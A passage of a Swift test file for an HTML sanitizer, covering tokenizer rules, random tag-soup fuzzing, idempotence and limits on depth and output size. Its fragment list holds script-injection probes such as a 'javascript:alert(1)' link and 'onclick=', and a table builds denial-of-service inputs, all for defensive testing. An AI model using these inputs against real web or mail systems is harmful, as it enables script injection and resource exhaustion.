    func styleAttributes(_ style: String, _ expected: String?) {
        let html = Self.clean("<p style=\"\(style.attributeEscaped)\">x</p>")
        if let expected {
            #expect(html == "<p style=\"\(expected.attributeEscaped)\">x</p>")
        } else {
            #expect(html == "<p>x</p>")
        }
    }

    // MARK: - Tokenizer rules

    static func tokens(_ html: String) -> [String] {
        HTMLTokenizer(Array(html.utf8)).map { token in
            switch token {
            case .text(let bytes): "text(\(String(decoding: bytes, as: UTF8.self)))"
            case .startTag(let tag):
                "<\(tag.name)" + tag.attributes.map { " \($0.name)=\(String(decoding: $0.value, as: UTF8.self))" }.joined()
                    + (tag.selfClosing ? "/>" : ">")
            case .endTag(let name): "</\(name)>"
            case .comment: "comment"
            case .doctype: "doctype"
            case .cdata: "cdata"
            }
        }
    }

    // HTML Living Standard §13.2.5, one row per rule.
    @Test(arguments: [
        ("plain", ["text(plain)"]),
        ("<P CLASS=x>", ["<p class=x>"]),
        ("<a href='1' title=\"2\" data=3 checked>", ["<a href=1 title=2 data=3 checked=>"]),
        ("<a  href = \"1\" >", ["<a href=1>"]),
        ("<a x=1 x=2 X=3>", ["<a x=1>"]),
        ("<br/>", ["<br/>"]),
        ("<a/b/c>", ["<a b= c=>"]),
        ("<a =x>", ["<a =x=>"]),
        ("<a b=\"x>y\">", ["<a b=x>y>"]),
        ("<a b=x\"y>", ["<a b=x\"y>"]),
        ("</A foo=\"bar>\">", ["</a>"]),
        ("</>x", ["text(x)"]),
        ("</ x>y", ["comment", "text(y)"]),
        ("<?php echo 1 ?>z", ["comment", "text(z)"]),
        ("<!doctype html>", ["doctype"]),
        ("<!-->x", ["comment", "text(x)"]),
        ("<!--->x", ["comment", "text(x)"]),
        ("<!-- a -- b --!>x", ["comment", "text(x)"]),
        ("<!-- never closed <b>", ["comment"]),
        ("<![CDATA[ <b> ]]>x", ["cdata", "text(x)"]),
        ("<!ELEMENT x>y", ["comment", "text(y)"]),
        ("a<b", ["text(a)"]),
        ("a < b", ["text(a < b)"]),
        ("a <1 <", ["text(a <1 <)"]),
        ("x</", ["text(x</)"]),
        ("<script>a<b></script>c", ["<script>", "text(a<b>)", "</script>", "text(c)"]),
        ("<SCRIPT>x</ScRiPt >y", ["<script>", "text(x)", "</script>", "text(y)"]),
        ("<script>x</scripty></script>", ["<script>", "text(x</scripty>)", "</script>"]),
        ("<script>never closed <b>", ["<script>", "text(never closed <b>)"]),
        ("<title>&amp;</title>", ["<title>", "text(&)", "</title>"]),
        ("<style>&amp;</style>", ["<style>", "text(&amp;)", "</style>"]),
        ("<plaintext></plaintext>", ["<plaintext>", "text(</plaintext>)"]),
        ("<a\u{0}b c\u{0}=d\u{0}>", ["<a\u{FFFD}b c\u{FFFD}=d\u{FFFD}>"]),
        ("a\u{0}b\u{1}c\r\nd\re", ["text(abc\nd\ne)"]),
        ("<a href=\"&amp;&lt&copy=&copyx&amp;copy\">", ["<a href=&<&copy=&copyx&copy>"]),
        ("&lt&gt;&#60;&#x3c;&#X3C", ["text(<><<<)"]),
    ] as [(String, [String])])
    func tokenizer(_ html: String, _ expected: [String]) {
        #expect(Self.tokens(html) == expected)
    }

    @Test func tokenizerBoundsAttributesAndNames() {
        let many = "<a " + (0..<200).map { "a\($0)=\($0)" }.joined(separator: " ") + ">"
        var tokenizer = HTMLTokenizer(Array(many.utf8))
        guard case .startTag(let tag)? = tokenizer.next() else {
            Issue.record("no tag")
            return
        }
        #expect(tag.attributes.count == HTMLTokenizerLimits().maxAttributes)
        let longName = "<" + String(repeating: "a", count: 10_000) + ">x"
        let tokens = Array(HTMLTokenizer(Array(longName.utf8)))
        #expect(tokens.count == 2)
        if case .startTag(let long) = tokens[0] { #expect(long.name.utf8.count == HTMLTokenizerLimits().maxNameBytes) }
        var limits = HTMLTokenizerLimits()
        limits.maxAttributeValueBytes = 8
        let value = Array(HTMLTokenizer(Array("<a title=\"0123456789\">".utf8), limits: limits))
        if case .startTag(let cut) = value[0] { #expect(cut.attributes[0].truncated && cut.attributes[0].value.count == 8) }
    }

    @Test func longTextIsCutOnCharacterBoundaries() {
        let text = String(repeating: "é&amp;€", count: 100_000)
        var joined: [UInt8] = []
        for case .text(let piece) in HTMLTokenizer(Array(text.utf8)) {
            #expect(piece.count <= HTMLTokenizerLimits().maxTextChunkBytes)
            joined += piece
        }
        #expect(String(decoding: joined, as: UTF8.self) == String(repeating: "é&€", count: 100_000))
    }

    // MARK: - Well-formed output, any input

    static let fragments: [String] = [
        "<p>", "</p>", "<div>", "</div>", "<b>", "</b>", "<i>", "</i>", "<table>", "</table>", "<tr>", "</tr>", "<td>", "</td>",
        "<th>", "<ul>", "<ol>", "<li>", "</li>", "<dl>", "<dt>", "<dd>", "<h1>", "</h2>", "<a href=\"http://x.example/\">",
        "</a>", "<br>", "<hr/>", "<span style=\"color:red\">", "</span>", "<font color=red>", "</font>", "<blockquote>",
        "<pre>", "</pre>", "<caption>", "<tbody>", "</tbody>", "<colgroup>", "<col>", "<script>", "</script>", "<style>",
        "</style>", "<svg>", "</svg>", "<svg/>", "<math>", "<select>", "</select>", "<textarea>", "</textarea>",
        "<title>", "</title>", "<xmp>", "</xmp>", "<!--", "-->", "<![CDATA[", "]]>", "<!doctype x>", "<?", ">", "<", "</",
        "\"", "'", "=", " ", "&", "&amp;", "&#", "&#x41;", "&lt", ";", "text", "é", "\u{0}", "\r\n", "<form>", "</form>",
        "<object>", "</object>", "<iframe>", "</iframe>", "<noscript>", "</noscript>", "onclick=", "javascript:",
        "<a href=", "<a href=javascript:alert(1)>", "<div title=\"", "<p style='", "<o:p>", "</o:p>", "<plaintext>",
    ]

    fileprivate static func randomDocument(_ rng: inout SplitMix64, fragments: [String] = fragments) -> String {
        (0..<Int.random(in: 1...60, using: &rng)).map { _ in fragments.randomElement(using: &rng)! }.joined()
    }

    @Test func randomTagSoupGivesSafeWellFormedOutput() {
        var rng = SplitMix64(state: 0x5EED)
        for _ in 0..<3000 {
            let document = Self.randomDocument(&rng)
            let html = Self.clean(document)
            let problems = OutputAudit.problems(html)
            #expect(problems.isEmpty, "\(document.debugDescription) → \(html): \(problems)")
        }
    }

    /// The output read again gives itself: what the serializer writes is what the tokenizer and
    /// tree rules read, so a browser parsing it sees the same elements.
    @Test func sanitizingTwiceChangesNothing() {
        var rng = SplitMix64(state: 0xD1CE)
        for _ in 0..<2000 {
            let once = Self.clean(Self.randomDocument(&rng))
            #expect(Self.clean(once) == once, "\(once)")
        }
    }

    @Test func randomBytesNeverTrap() {
        var rng = SplitMix64(state: 42)
        let alphabet = Array("<>/!-=\"' &#;x9aAbB\u{0}\r\n?[]".utf8) + [0xC3, 0xA9, 0xFF, 0x80, 0xE2]
        for _ in 0..<2000 {
            let bytes = (0..<Int.random(in: 0...200, using: &rng)).map { _ in
                Bool.random(using: &rng) ? alphabet.randomElement(using: &rng)! : UInt8.random(in: 0...255, using: &rng)
            }
            let result = Self.sanitizer.sanitize(bytes: bytes, options: Self.webmailOptions)
            #expect(OutputAudit.problems(result.html).isEmpty, "\(bytes) → \(result.html)")
        }
    }

    // MARK: - Hostile input

    static func timed(_ body: () -> SanitizedHTML) -> (SanitizedHTML, Duration) {
        let clock = ContinuousClock()
        var result: SanitizedHTML?
        let elapsed = clock.measure { result = body() }
        return (result!, elapsed)
    }

    @Test func deepNestingIsFlattened() {
        let depth = 100_000
        let html = String(repeating: "<div>", count: depth) + "deep" + String(repeating: "</div>", count: depth) + "after"
        let (result, elapsed) = Self.timed { Self.sanitizer.sanitize(html) }
        let maxDepth = HTMLSanitizer.Limits().maxDepth
        #expect(result.html == String(repeating: "<div>", count: maxDepth) + "deep" + String(repeating: "</div>", count: maxDepth) + "after")
        #expect(result.depthLimitReached && !result.truncated)
        #expect(elapsed < .seconds(5), "\(elapsed)")

        let unclosed = String(repeating: "<b><i><font><span><blockquote><em><strong><div>", count: 20_000)
        let (soup, soupTime) = Self.timed { Self.sanitizer.sanitize(unclosed) }
        #expect(OutputAudit.problems(soup.html).isEmpty)
        #expect(soup.html.utf8.count < 4 * 1024)
        #expect(soupTime < .seconds(5), "\(soupTime)")

        // A cell start tag closes the open cell (§13.2.6.4.15), so this keeps closing and
        // reopening: the output grows with the input, within the output limit.
        let cells = String(repeating: "<b><i><table><tr><td><ul><li><blockquote>", count: 5_000)
        let (table, tableTime) = Self.timed { Self.sanitizer.sanitize(cells) }
        #expect(OutputAudit.problems(table.html).isEmpty)
        #expect(tableTime < .seconds(5), "\(tableTime)")
    }

    @Test func limitsComeFromTheOptions() {
        var options = HTMLSanitizer.Options()
        options.limits.maxDepth = 2
        options.limits.maxAttributesPerElement = 1
        options.limits.maxAttributeBytes = 4
        let result = Self.sanitizer.sanitize("<div title=a lang=b><p title=toolong><b>x</b>y</p></div>z", options: options)
        #expect(result.html == "<div title=\"a\"><p>xy</p></div>z")
        #expect(result.depthLimitReached)
    }

    @Test func tenMegabytesOfAngleBracketsStopAtTheOutputLimit() {
        let html = String(repeating: "<", count: 10 << 20)
        let (result, elapsed) = Self.timed { Self.sanitizer.sanitize(html) }
        #expect(result.truncated)
        #expect(result.html.utf8.count <= HTMLSanitizer.Limits().maxOutputBytes)
        #expect(result.html.utf8.count > HTMLSanitizer.Limits().maxOutputBytes - 4)
        #expect(result.html.hasPrefix("&lt;&lt;") && result.html.hasSuffix("&lt;"))
        #expect(elapsed < .seconds(10), "\(elapsed)")
    }

    @Test func outputLimitKeepsRoomForEndTagsAndCharacters() {
        var options = HTMLSanitizer.Options()
        options.limits.maxOutputBytes = 40
        let result = Self.sanitizer.sanitize("<div><p><b>" + String(repeating: "é€", count: 100) + "</b></p></div>", options: options)
        #expect(result.truncated)
        #expect(result.html.utf8.count <= 40)
        #expect(result.html.hasPrefix("<div><p><b>é€") && result.html.hasSuffix("</b></p></div>"))
        #expect(OutputAudit.problems(result.html).isEmpty)
    }

    /// Built in the test, not passed as arguments: megabyte arguments would be copied into
    /// every test case's description.
    static let hostileInputs: [String: @Sendable () -> String] = [
        "unterminated comment": { "<!--" + String(repeating: "a", count: 1 << 20) },
        "unterminated attribute": { "<a href=\"" + String(repeating: "a", count: 1 << 20) },
        "unterminated script": { "<script>" + String(repeating: "<a>", count: 300_000) },
        "tags without end": { String(repeating: "<a<a", count: 300_000) },
        "many attributes": { "<p " + String(repeating: "a=1 ", count: 300_000) + ">x" },
        "numeric references": { String(repeating: "&#", count: 100_000) + String(repeating: "9", count: 1 << 20) },
        "named references": { String(repeating: "&amp", count: 100_000) },
        "stray end tags": { "<table><tr><td>" + String(repeating: "<i>", count: 120) + String(repeating: "</b>", count: 300_000) },
        "nested svg": { String(repeating: "<svg>", count: 300_000) + "x" },
        "end tags": { String(repeating: "</div foo='>'>", count: 100_000) },
        "table soup": { String(repeating: "<table><tr><td><p><li>", count: 10_000) },
    ]

    @Test(arguments: hostileInputs.keys.sorted())
    func hostileInputFinishesQuickly(_ name: String) {
        let html = Self.hostileInputs[name]!()
        let (result, elapsed) = Self.timed { Self.sanitizer.sanitize(html) }
        #expect(elapsed < .seconds(10), "\(name): \(elapsed)")
        #expect(result.html.utf8.count <= HTMLSanitizer.Limits().maxOutputBytes)
        #expect(OutputAudit.problems(result.html).isEmpty, "\(name)")
    }
}
